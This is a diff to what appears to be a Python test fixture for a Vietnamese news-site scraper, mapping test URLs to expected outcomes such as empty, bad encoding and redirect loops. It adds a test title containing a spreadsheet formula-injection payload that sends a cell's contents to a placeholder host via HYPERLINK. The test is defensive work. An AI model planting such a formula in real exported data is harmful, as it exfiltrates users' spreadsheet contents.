@@ -41,6 +41,7 @@ CASES = {
     "/tin-tuc/html-hong-1005.html": "emit",
     "/tin-tuc/loi-503-roi-duoc-1006.html": "emit",
     "/tin-tuc/may-chu-cham-1007.html": "emit",
+    "/tin-tuc/tieu-de-cong-thuc-1008.html": "emit",
     "/tin-tuc/trong-rong-1010.html": "empty",
     "/tin-tuc/khong-co-noi-dung-1011.html": "too_little_text",
     "/tin-tuc/mojibake-1012.html": "bad_encoding",
@@ -57,6 +58,8 @@ CASES = {
     "/tin-tuc/vong-lap-chuyen-huong-1023.html": "redirect_loop",
     "/tin-tuc/chuyen-huong-ra-ngoai-1024.html": "offsite",
 }
+# A title a spreadsheet would run as a formula (CSV injection), sending a cell away.
+FORMULA_TITLE = '=HYPERLINK("http://thu-nghiem.invalid/?d="&B2,"Xem chi tiết")'
 # Links that are the same article as binh-thuong-1001 under other URLs.
 ALIASES = ["/tin-tuc/binh-thuong-1001.html?utm_source=zalo&utm_medium=share",
            "/tin-tuc/binh-thuong-1001.html;jsessionid=8F2A0C1B",
@@ -243,6 +246,7 @@ ROUTES = {
     "/tin-tuc/html-hong-1005.html": _broken_html,
     "/tin-tuc/loi-503-roi-duoc-1006.html": _flaky,
     "/tin-tuc/may-chu-cham-1007.html": _slow,
+    "/tin-tuc/tieu-de-cong-thuc-1008.html": _normal(FORMULA_TITLE),
     "/tin-tuc/trong-rong-1010.html": lambda h, p: h.send(200, b""),
     "/tin-tuc/khong-co-noi-dung-1011.html": lambda h, p: h.send(
         200, article("Ảnh hoạt động", body="Ảnh: Minh Anh").encode("utf-8")),
